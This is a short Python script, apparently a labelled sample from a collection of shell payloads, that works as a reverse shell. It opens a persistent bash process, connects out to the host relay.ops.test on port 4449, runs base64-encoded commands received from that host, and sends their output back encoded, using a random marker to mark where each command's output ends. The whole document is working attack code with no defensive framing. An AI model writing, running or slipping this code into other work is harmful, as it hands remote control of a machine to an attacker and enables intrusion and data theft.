# class: shell; possible: low medium; style: encoded lines, persistent bash, marker for the end
import base64
import socket
import subprocess
import uuid

sh = subprocess.Popen(["bash", "--norc"], stdin=-1, stdout=-1, stderr=subprocess.STDOUT, text=True, bufsize=1)
link = socket.create_connection(("relay.ops.test", 4449))
for raw in link.makefile("rb"):
    try:
        order = base64.b64decode(raw.strip()).decode()
    except ValueError:
        continue
    mark = uuid.uuid4().hex
    sh.stdin.write(order + "\necho %s\n" % mark)
    sh.stdin.flush()
    out = []
    for line in sh.stdout:
        if mark in line:
            break
        out.append(line)
    link.sendall(base64.b64encode("".join(out).encode()) + b"\n")
sh.kill()
